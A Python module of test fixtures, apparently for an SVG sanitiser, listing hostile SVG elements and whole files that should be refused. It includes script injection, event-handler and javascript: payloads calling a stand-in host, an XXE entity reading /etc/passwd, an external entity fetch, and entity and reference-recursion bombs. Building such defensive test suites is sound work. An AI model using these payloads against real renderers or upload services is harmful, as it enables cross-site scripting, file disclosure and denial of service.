"""Drawings (SVG) that try to run, load, follow or swell: what a stranger's file may hold, as elements and as files."""

from __future__ import annotations

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 500">'
ELSEWHERE = "https://elsewhere.example/"
PAGE = "http://www.w3.org/1999/xhtml"
HIT = "fetch('" + ELSEWHERE + "'),alert(1)"

# What SVG 2 (W3C) lets a document run or load, each by a way of its own: 5.7 (use), 12 (image), 15 (script), 16 (a),
# SMIL animation of an address, CSS in its elements, attributes and functions, XML's own ways (XML 1.0, 2.6 and 4.2).
ELEMENTS = {
    "script": f"<script>{HIT}</script>",
    "script in CDATA": f"<script><![CDATA[{HIT}]]></script>",
    "script from elsewhere": f'<script xlink:href="{ELSEWHERE}x.js"/>',
    "script of a page": f'<script xmlns="{PAGE}">{HIT}</script>',
    "script under another prefix": f'<s:script xmlns:s="http://www.w3.org/2000/svg">{HIT}</s:script>',
    "script in a group in a definition": f"<defs><g><script>{HIT}</script></g></defs>",
    "script in a title": f"<title><script>{HIT}</script></title>",
    "script in metadata": f"<metadata><script>{HIT}</script></metadata>",
    "a page inside": f"<foreignObject><body xmlns='{PAGE}' onload=\"{HIT}\"/></foreignObject>",
    "a frame inside": f'<foreignObject><iframe xmlns="{PAGE}" src="{ELSEWHERE}"/></foreignObject>',
    "a page that is no SVG": f'<h:img xmlns:h="{PAGE}" src="{ELSEWHERE}x.png" onerror="{HIT}"/>',
    "picture from elsewhere": f'<image href="{ELSEWHERE}spy.png" width="9" height="9"/>',
    "picture in an address": '<image xlink:href="data:image/png;base64,AAAA" width="9" height="9"/>',
    "picture of a filter": f'<filter id="f"><feImage href="{ELSEWHERE}x.png"/></filter><g filter="url(#f)"/>',
    "filter": '<filter id="f"><feGaussianBlur stdDeviation="9000"/></filter><g filter="url(#f)"/>',
    "filter in a style": '<rect style="filter:url(#f);fill:red" width="9" height="9"/>',
    "link": '<a href="javascript:alert(1)"><path d="M0 0H99V99"/></a>',
    "link of old": f'<a xlink:href="{ELSEWHERE}" target="_top"><path d="M0 0H99V99"/></a>',
    "event": f'<path d="M0 0H99V99" onclick="{HIT}"/>',
    "event of an animation": f'<path d="M0 0H99V99" onbegin="{HIT}"/>',
    "event in capitals": f'<path d="M0 0H99V99" ONLOAD="{HIT}"/>',
    "event under a prefix": f'<path d="M0 0H99V99" xlink:onload="{HIT}"/>',
    "event of no shape": f'<title onload="{HIT}"/>',
    "fill from elsewhere": f'<path d="M0 0H99V99" fill="url({ELSEWHERE}x.svg#y)"/>',
    "fill in quotes from elsewhere": f"<path d='M0 0H99V99' fill=\"url('{ELSEWHERE}x.svg#y')\"/>",
    "fill with a spare colour": f'<path d="M0 0H99V99" fill="url({ELSEWHERE}x.svg#y) red"/>',
    "fill in an address": '<path d="M0 0H99V99" fill="url(data:image/svg+xml;base64,AAAA#y)"/>',
    "fill in capitals": f'<path d="M0 0H99V99" fill="URL({ELSEWHERE}x.svg#y)"/>',
    "fill through an escape": f'<path d="M0 0H99V99" fill="u\\72l({ELSEWHERE}x.svg#y)"/>',
    "clip from elsewhere": f'<path d="M0 0H99V99" clip-path="url({ELSEWHERE}x.svg#y)"/>',
    "mask from elsewhere": f'<path d="M0 0H99V99" mask="url({ELSEWHERE}x.svg#y)"/>',
    "marker from elsewhere": f'<path d="M0 0H99V99" marker-end="url({ELSEWHERE}x.svg#y)"/>',
    "cursor from elsewhere": f'<path d="M0 0H99V99" cursor="url({ELSEWHERE}x.svg#y)"/>',
    "style from elsewhere": f'<path d="M0 0H99V99" style="background:url({ELSEWHERE})"/>',
    "style that fills from elsewhere": f'<path d="M0 0H99V99" style="fill:url({ELSEWHERE}x#y)"/>',
    "style behind a comment": f'<path d="M0 0H99V99" style="/*;*/fill:url({ELSEWHERE}x#y)"/>',
    "style that imports": f'<path d="M0 0H99V99" style="@import url({ELSEWHERE}x.css)"/>',
    "style sheet": "<style>path { fill: red }</style>",
    "style sheet that imports": f"<style>@import url({ELSEWHERE}x.css);</style>",
    "style sheet of a page": f'<link xmlns="{PAGE}" rel="stylesheet" href="{ELSEWHERE}x.css"/>',
    "font from elsewhere": f"<style>@font-face {{ font-family: f; src: url({ELSEWHERE}f.woff) }}</style>",
    "use from elsewhere": f'<use href="{ELSEWHERE}x.svg#a"/>',
    "use of an address": '<use xlink:href="data:image/svg+xml,&lt;svg id=&quot;a&quot;/>#a"/>',
    "use of a file beside it": '<use href="other.svg#a"/>',
    "gradient from elsewhere": f'<linearGradient id="g" href="{ELSEWHERE}x.svg#g"/><path fill="url(#g)" d="M0 0H9V9"/>',
    "pattern from elsewhere": f'<pattern id="p" xlink:href="{ELSEWHERE}x.svg#p"/>',
    "animated link": '<a><animate attributeName="href" to="javascript:alert(1)"/><path d="M0 0H99V99"/></a>',
    "animated use": f'<use href="#a"><animate attributeName="href" to="{ELSEWHERE}x.svg#a" dur="1ms"/></use>',
    "animated use of old": f'<use><set attributeName="xlink:href" to="{ELSEWHERE}x.svg#a"/></use>',
    "animated event": f'<path d="M0 0H9V9"><set attributeName="onload" to="{HIT}"/></path>',
    "animated path": '<path d="M0 0H9V9"><animate attributeName="d" dur="1ms" repeatCount="indefinite"/></path>',
    "animated turn": '<path d="M0 0H9V9"><animateTransform attributeName="transform" dur="1ms"/></path>',
    "movement along a path": f'<g><animateMotion><mpath href="{ELSEWHERE}x.svg#a"/></animateMotion></g>',
    "handler": '<handler type="text/javascript">alert(1)</handler>',
    "listener": '<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
    "video": f'<video xmlns="{PAGE}" src="{ELSEWHERE}x.webm" autoplay=""/>',
    "letters": '<text font-family="&quot;;}">words</text>',
    "a switch": f"<switch><foreignObject/><script>{HIT}</script></switch>",
    "an SVG inside": f'<svg onload="{HIT}"><path d="M0 0H99V99"/></svg>',
    "a base": f'<g xml:base="{ELSEWHERE}"><use href="#a"/></g>',
    "instructions": f"<?xml-stylesheet href='{ELSEWHERE}x.css'?><!-- <script>alert(1)</script> -->",
    "a name of its own": '<g id="SECRETPLACE" class="SECRETPLACE" data-x="SECRETPLACE"><path d="M0 0H99V99"/></g>',
}

_GROUPS = "".join(f'<g id="g{i + 1}">' + f'<use href="#g{i}"/>' * 10 + "</g>" for i in range(40))
_TWINS = "".join(
    f'<g id="t{i + 1}">' + f'<use href="#t{i}"/>' * 10 + f'</g><g id="t{i + 1}"><path d="M0 0"/></g>' for i in range(30)
)
_ENTITIES = "".join(f'<!ENTITY e{i + 1} "{f"&e{i};" * 10}">' for i in range(10))

# Whole files, each of which must be refused: what would swell, never end, or is no drawing at all.
FILES = {
    "bomb of entities": f'<!DOCTYPE svg [<!ENTITY e0 "lol">{_ENTITIES}]>{HEAD}<title>&e10;</title></svg>'.encode(),
    "one great entity": f'<!DOCTYPE svg [<!ENTITY e "{"x" * 99_000}">]>{HEAD}<g id="{"&e;" * 900}"/></svg>'.encode(),
    "a file of this machine": f'<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>{HEAD}&e;</svg>'.encode(),
    "a file from elsewhere": f'<!DOCTYPE svg [<!ENTITY % e SYSTEM "{ELSEWHERE}"> %e;]>{HEAD}</svg>'.encode(),
    "bomb of repeated parts": f'{HEAD}<path id="g0" d="M0 0"/>{_GROUPS}</svg>'.encode(),
    "bomb of parts of one name": f'{HEAD}<path id="t0" d="M0 0"/>{_TWINS}<use href="#t30"/></svg>'.encode(),
    "bomb of clips": (
        HEAD + "".join(f'<clipPath id="c{i + 1}">' + f'<use href="#c{i}"/>' * 9 + "</clipPath>" for i in range(40))
    ).encode()
    + b'<path id="c0" d="M0 0"/><path clip-path="url(#c40)" d="M0 0"/></svg>',
    "a part inside itself": f'{HEAD}<g id="a"><use href="#a"/></g></svg>'.encode(),
    "two parts inside each other": f'{HEAD}<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>'.encode(),
    "groups without end": (HEAD + "<g>" * 9000 + "</g>" * 9000 + "</svg>").encode(),
    "shapes without end": (HEAD + "<path/>" * 50_000 + "</svg>").encode(),
    "half a file": f'{HEAD}<path d="M0 0H9V9"/>'.encode(),
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a photo": b"\xff\xd8\xff\xe0" + bytes(300),
    "packed": b"\x1f\x8b\x08\0" + bytes(300),
    "nothing": b"",
    "no size": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0H9V9"/></svg>',
    "no size that can be": HEAD.replace("300 500", "1e999 nan").encode() + b"</svg>",
    "a size below nothing": HEAD.replace("300 500", "-3 -5").encode() + b"</svg>",
    "in no known letters": b'<?xml version="1.0" encoding="x-unknown"?>' + HEAD.encode() + b"</svg>",
}


def drawing(elements: str) -> bytes:
    """A drawing of a kite's outline with these elements in it."""
    return f'{HEAD}<path id="a" d="M150 0L300 190L150 500L0 190Z" fill="#204060"/>{elements}</svg>'.encode()
